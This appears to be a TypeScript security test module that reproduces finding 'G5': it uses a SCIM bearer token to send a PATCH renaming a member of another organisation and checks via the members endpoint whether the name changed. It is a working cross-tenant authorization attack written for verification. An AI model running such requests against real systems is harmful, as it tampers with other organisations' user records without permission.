import type { Attack } from './attack.ts'
import { visitor } from './visitor.ts'

export const attack: Attack = {
  finding: 'G5',
  title: 'a directory renames a person in another organisation',
  async run({ address, shared }) {
    const call = await visitor(address).signIn(shared.otherOwner)
    const nameNow = async (): Promise<string> =>
      (await call<{ id: string; full_name: string }[]>('GET', '/members/')).data.find(
        ({ id }) => id === shared.memberId,
      )!.full_name
    const before = await nameNow()
    const newName = `Dana Moore ${Date.now()}`
    const { status } = await fetch(`${address}/scim/v2/Users/${shared.memberId}`, {
      method: 'PATCH',
      headers: { authorization: `Bearer ${shared.scimToken}`, 'content-type': 'application/scim+json' },
      body: JSON.stringify({
        schemas: ['urn:ietf:params:scim:api:messages:2.0:PatchOp'],
        Operations: [{ op: 'replace', path: 'displayName', value: newName }],
      }),
    })
    const after = await nameNow()
    if (status !== 200) throw new Error(`the directory was answered with ${status}`)
    return {
      successes: after === newName ? [`"${before}" is now "${after}"`] : [],
      figures: [`SCIM ${status}: "${before}" is now "${after}"`],
    }
  },
}
